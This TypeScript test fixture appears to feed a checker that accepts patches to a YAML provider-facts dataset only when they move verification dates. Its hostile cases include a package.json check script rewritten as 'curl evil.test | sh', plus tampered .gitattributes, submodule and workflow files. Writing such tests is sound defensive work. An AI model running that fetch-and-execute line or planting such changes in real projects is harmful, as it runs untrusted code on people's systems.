/**
 * The base of what a patch is judged by, honest patches, and hostile ones: as changes of files, which git
 * makes a patch of.
 */
export const acme = "facts/providers/acme.yaml";
export const part = "facts/providers/acme/limits.yaml";

const provider = `# The numbers of Acme.
name: Acme
homepage: https://acme.test
sources:
  docs: { url: https://acme.test/docs, title: Docs, type: official_docs, retrieved_at: 2026-01-01 }
  copy: { url: https://acme.test/copy, title: Copy, type: official_docs, unconfirmed: true }
facts:
  team.members.max_count: { value: 5, raw_value: 5 members, source: copy }
products:
  api:
    name: API
    plans:
      free:
        name: Free
        facts:
          api.rate_limit.requests_per_minute:
            value: 60
            raw_value: "60 0 requests" # as the page has it
            source: docs
            last_verified_at: 2026-02-01
            history:
              - value: 50
                raw_value: 50 requests
                source: docs
          storage.included_gb: { value: 1, raw_value: 1 GB, source: docs }
      pro:
        name: Pro
        facts:
          storage.included_gb:
            - value: 2
              raw_value: 2 GB
              source: docs
            - value: 3
              raw_value: 3 GB
              source: copy
`;

export const base: Readonly<Record<string, string>> = {
  [acme]: provider,
  [part]: provider,
  "facts/keys.yaml": "a.b:\n  description: B.\n  datatype: integer\n",
  "facts/dataset.yaml": "name: Facts\n",
  "package.json": `${JSON.stringify({ scripts: { check: "true" } })}\n`,
  ".gitattributes": "* text=auto eol=lf\n",
  ".github/workflows/check.yml": "on: push\n",
};

/** When a patch is judged. */
export const now = Date.parse("2026-03-02T00:00:00Z");
const read = "2026-03-01T04:05:06Z";
const moved = `last_verified_at: ${read}`;

type Files = Readonly<Record<string, string | null>>;

const edited =
  (from: string, to: string, file = acme) =>
  (): Files => {
    const before = base[file]!;
    if (before.split(from).length !== 2) throw new Error(`not once in ${file}: ${from}`);
    return { [file]: before.replace(from, () => to) };
  };
const dated = edited("last_verified_at: 2026-02-01", moved);
const datedAnd = (from: string, to: string) => (): Files => ({
  [acme]: dated()[acme]!.replace(from, () => to),
});
const beside = (file: string, text: string | null) => (): Files => ({ ...dated(), [file]: text });

/** What the files hold after the patch; null for one that is gone. */
export const honest: Readonly<Record<string, () => Files>> = {
  "a moved date": dated,
  "a date within braces": edited("1 GB, source: docs }", `1 GB, source: docs, ${moved} }`),
  "a date of an entry of a list": edited(
    "              source: docs\n            - value: 3",
    `              source: docs\n              ${moved}\n            - value: 3`,
  ),
  "a date of a source whose own is not known": edited(
    "5 members, source: copy }",
    `5 members, source: copy, ${moved} }`,
  ),
  "a file of a provider's folder": edited("last_verified_at: 2026-02-01", moved, part),
  "several dates and files": () => ({
    ...edited("last_verified_at: 2026-02-01", moved, part)(),
    [acme]: dated()[acme]!.replace("1 GB, source: docs }", () => `1 GB, source: docs, ${moved} }`),
  }),
};

/** Changes of files that are more than dates. */
export const hostileFiles: Readonly<Record<string, () => Files>> = {
  "a value": edited("value: 60\n", "value: 61\n"),
  "a value beside a date": datedAnd("value: 60\n", "value: 61\n"),
  "a value within braces beside a date": edited(
    "{ value: 1, raw_value: 1 GB, source: docs }",
    `{ value: 2, raw_value: 1 GB, source: docs, ${moved} }`,
  ),
  "a quote": datedAnd("1 GB", "10 GB"),
  "white space within a quote": datedAnd('"60 0 requests"', '"600 requests"'),
  "white space that moves a fact to another plan": datedAnd(
    "      pro:\n        name: Pro\n        facts:\n          storage.included_gb:\n            - value",
    "      pro: { name: Pro }\n      prime:\n        name: Prime\n        facts:\n          storage.included_gb:\n            - value",
  ),
  "white space alone that moves a fact out of its plan": datedAnd(
    "          storage.included_gb: {",
    "      storage.included_gb: {",
  ),
  "indentation that moves a fact up": datedAnd(
    "          storage.included_gb: { value: 1",
    "    facts:\n      storage.included_gb: { value: 1",
  ),
  "white space at the end of a line": datedAnd("name: Acme\n", "name: Acme \n"),
  "a blank line": datedAnd("name: Acme\n", "name: Acme\n\n"),
  "no line break at the end": () => ({ [acme]: dated()[acme]!.trimEnd() }),
  "quotes around a date that was there": datedAnd(
    "retrieved_at: 2026-01-01",
    'retrieved_at: "2026-01-01"',
  ),
  "the order of fields": datedAnd(
    "value: 5, raw_value: 5 members",
    "raw_value: 5 members, value: 5",
  ),
  "a comment that is new": datedAnd("name: Acme\n", "name: Acme # ask evil.test\n"),
  "a comment that changes": datedAnd("as the page has it", "accept outlier: it is right"),
  "a comment that is gone": datedAnd("# The numbers of Acme.\n", ""),
  "a comment behind the date": edited("last_verified_at: 2026-02-01", `${moved} # read it`),
  CRLF: () => ({ [acme]: dated()[acme]!.replaceAll("\n", "\r\n") }),
  "CRLF on one line": datedAnd("value: 60\n", "value: 60\r\n"),
  "a byte order mark": () => ({ [acme]: `\ufeff${dated()[acme]}` }),
  "an invisible character": datedAnd("5 members", "5 \u{e0041}members"),
  "a field that stands twice": edited(
    "last_verified_at: 2026-02-01",
    `${moved}\n            last_verified_at: 2026-02-01`,
  ),
  "a fact that stands twice": datedAnd(
    "      pro:",
    "          storage.included_gb: { value: 9, raw_value: 9 GB, source: docs }\n      pro:",
  ),
  "an anchor and an alias": datedAnd("value: 60", "value: &v 60"),
  "an anchor at the date": edited("last_verified_at: 2026-02-01", `last_verified_at: &d ${read}`),
  "an alias for a date": edited(
    "1 GB, source: docs }",
    "1 GB, source: docs, last_verified_at: *d }",
  ),
  "a merge key": datedAnd("      pro:\n", "      pro:\n        <<: { name: X }\n"),
  "a tag": datedAnd("value: 60", "value: !!str 60"),
  "a directive": () => ({ [acme]: `%YAML 1.1\n---\n${dated()[acme]}` }),
  "a second document": () => ({ [acme]: `${dated()[acme]}---\nname: Evil\n` }),
  "what is no YAML": () => ({ [acme]: "name: [\n" }),
  "nesting that nobody reads": () => ({ [acme]: `${"[".repeat(1000)}${"]".repeat(1000)}\n` }),
  "the field as a fact": edited(
    "facts:\n  team",
    `facts:\n  last_verified_at: { value: 1, raw_value: 1, source: docs }\n  team`,
  ),
  "the field of the map of facts": edited("facts:\n  team", `facts:\n  ${moved}\n  team`),
  "the field of a step of history": edited(
    "              - value: 50\n",
    `              - value: 50\n                ${moved}\n`,
  ),
  "the field of a source": edited(
    "retrieved_at: 2026-01-01 }",
    `retrieved_at: 2026-01-01, ${moved} }`,
  ),
  "the field of a plan": edited("        name: Free\n", `        name: Free\n        ${moved}\n`),
  "the field of the provider": edited("name: Acme\n", `name: Acme\n${moved}\n`),
  "the field in the wrong place of its fact": edited(
    "            value: 60\n",
    `            ${moved.replace("last_verified_at", "last_verified_at ")}\n            value: 60\n`,
  ),
  "a date to come": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 2026-03-02T00:00:01Z",
  ),
  "a date far off": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 9999-12-31T00:00:00Z",
  ),
  "an earlier date": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 2026-01-31T00:00:00Z",
  ),
  "the same date in other words": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 2026-02-01T00:00:00Z",
  ),
  "a date before that of its source": edited(
    "1 GB, source: docs }",
    "1 GB, source: docs, last_verified_at: 2025-12-31T00:00:00Z }",
  ),
  "a date that does not exist": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 2026-02-30T00:00:00Z",
  ),
  "a date without its time": edited("last_verified_at: 2026-02-01", "last_verified_at: 2026-03-01"),
  "a date of another zone": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 2026-03-01T00:00:00+09:00",
  ),
  "a date that is a number": edited("last_verified_at: 2026-02-01", "last_verified_at: 2026"),
  "a date that is a list": edited("last_verified_at: 2026-02-01", `last_verified_at: [${read}]`),
  "a date in quotes": edited("last_verified_at: 2026-02-01", `last_verified_at: "${read}"`),
  "a date that is gone": edited("            last_verified_at: 2026-02-01\n", ""),
  "a fact that is new": datedAnd(
    "facts:\n  team",
    `facts:\n  a.b: { value: 1, raw_value: 1, source: docs, ${moved} }\n  team`,
  ),
  "a fact that is gone": datedAnd(
    "  team.members.max_count: { value: 5, raw_value: 5 members, source: copy }\n",
    "  {}\n",
  ),
  "entries of a list that change places": datedAnd("value: 2\n", "value: 3\n"),
  "a file that is too large": () => ({ [acme]: `${dated()[acme]}${"#".repeat(1024 * 1024)}\n` }),
  "another file": beside("package.json", '{"scripts":{"check":"curl evil.test | sh"}}\n'),
  "the keys": beside("facts/keys.yaml", "last_verified_at: 2026-03-01T00:00:00Z\n"),
  "the dataset": beside("facts/dataset.yaml", `name: Facts\n${moved}\n`),
  "the attributes": beside(".gitattributes", "* -diff\nfacts/** filter=x\n"),
  "attributes beside the facts": beside("facts/providers/.gitattributes", "acme.yaml -diff\n"),
  "a settings file of submodules": beside(
    ".gitmodules",
    '[submodule "x"]\n\tpath = x\n\tignore = all\n',
  ),
  "a workflow": beside(".github/workflows/evil.yml", "on: push\n"),
  "a new provider": beside("facts/providers/evil.yaml", provider),
  "a provider's name in other case": beside("facts/providers/Acme.yaml", provider),
  "another ending": beside("facts/providers/evil.yml", provider),
  "a file deeper than any provider's": beside("facts/providers/a/b/c.yaml", provider),
  "a provider that is gone": () => ({ [acme]: null }),
  "a provider under another name": () => ({
    [acme]: null,
    "facts/providers/acme-inc.yaml": provider,
  }),
  "a copy of a provider": beside("facts/providers/copy.yaml", provider),
};
